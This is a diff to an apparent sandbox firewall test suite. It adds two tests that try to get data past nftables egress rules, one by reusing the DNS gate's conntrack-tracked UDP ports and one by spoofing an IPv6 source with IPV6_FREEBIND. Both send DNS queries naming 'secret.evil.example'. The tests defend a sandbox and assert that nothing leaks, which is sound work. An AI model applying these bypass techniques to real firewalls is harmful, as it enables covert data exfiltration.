@@ -1,7 +1,7 @@
 """ATTACKS section NFT, on the sidecar: ways around the table that its output chain alone would not stop."""
-import subprocess, sys
+import re, subprocess, sys
 
-from harness.far import Accepted
+from harness.far import Accepted, Asked
 from harness.gate import eventually
 from harness.namespaces import EVIL, EVIL6, run
 from test_nft import passes
@@ -75,3 +75,71 @@ print("made", made)
     assert "through" not in said and int(said.split()[-1]) >= 1, said
     assert fenced.far.since(mark, Accepted) == []
     passes(fenced)
+
+
+NOBODY = ("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all")
+QUESTION = """
+import socket, struct, sys
+def question(name): return struct.pack(">6H", 9, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">B2H", 0, 1, 1)
+"""
+
+
+def test_NFT_14_a_port_that_the_gate_asked_from_carries_nothing_for_others(fenced):
+    """The kernel knows a flow for longer than the gate has its socket; whoever takes the port is not the gate."""
+    assert fenced.agent("curl", "-sS", "-m", "5", "http://web.test/").returncode == 0
+    listed = fenced.agent("conntrack", "-L", "-p", "udp").stdout
+    ports = re.findall(r"src=10\.66\.0\.2 dst=11\.11\.0\.53 sport=(\d+) dport=53\b", listed)
+    assert ports, ("the gate's own flows are there to be taken", listed)
+    mark = fenced.far.mark()
+    script = QUESTION + """
+bound = 0
+for port in sys.argv[1:]:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try: s.bind(("10.66.0.2", int(port))); bound += 1
+    except OSError: continue
+    for _ in range(3):
+        try: s.sendto(question("secret.evil.example"), ("11.11.0.53", 53))
+        except OSError: pass
+print(bound)
+"""
+    assert int(fenced.python(script, *ports, prefix=NOBODY)) > 0, "the control: such a port can be had"
+    passes(fenced)
+    assert not [asked for asked in fenced.far.since(mark, Asked) if "secret" in str(asked)]
+
+
+def test_NFT_21_a_source_that_is_not_this_hosts_is_believed_by_nobody(fenced):
+    """IPV6_FREEBIND takes any address without a privilege; answers to it, and errors, would carry bytes there."""
+    watch = """
+import socket, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)); s.settimeout(0.2)
+end = time.time() + 4; seen = 0
+print("watching", flush=True)
+while time.time() < end:
+    try: data, place = s.recvfrom(2000)
+    except OSError: continue
+    if place[2] == 4 or place[0] == "lo": continue
+    seen += 1
+    if b"secret" in data or data[24:40] == socket.inet_pton(socket.AF_INET6, "%s"): print("LEAK", data.hex(), flush=True)
+print("seen", seen > 0)
+""" % EVIL6
+    watcher = subprocess.Popen(fenced.bench.command("out", sys.executable, "-c", watch), stdout=subprocess.PIPE, text=True)
+    assert watcher.stdout.readline() == "watching\n"
+    script = QUESTION + """
+evil = sys.argv[1]
+server = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); server.bind(("::", 8080)); server.listen(4)
+for place in (("2a0e:b107:11::10", 53), ("2a0e:b107:77::1", 53), ("2a0e:b107:77::1", 443), ("fd66::2", 9999), ("::1", 15353)):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6, 78, 1); s.bind((evil, 5555))
+    try: s.sendto(question("secret.evil.example"), place)
+    except OSError: pass
+    s.close()
+for place in (("fd66::2", 8080), ("2a0e:b107:77::1", 443)):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.setsockopt(socket.IPPROTO_IPV6, 78, 1); s.bind((evil, 4444)); s.settimeout(0.5)
+    try: s.connect(place); print("connected")
+    except OSError: pass
+    s.close()
+print("tried")
+"""
+    assert fenced.python(script, EVIL6, prefix=NOBODY).strip() == "tried"
+    passes(fenced)
+    said = watcher.communicate(timeout=10)[0]
+    assert "LEAK" not in said and "seen True" in said, said
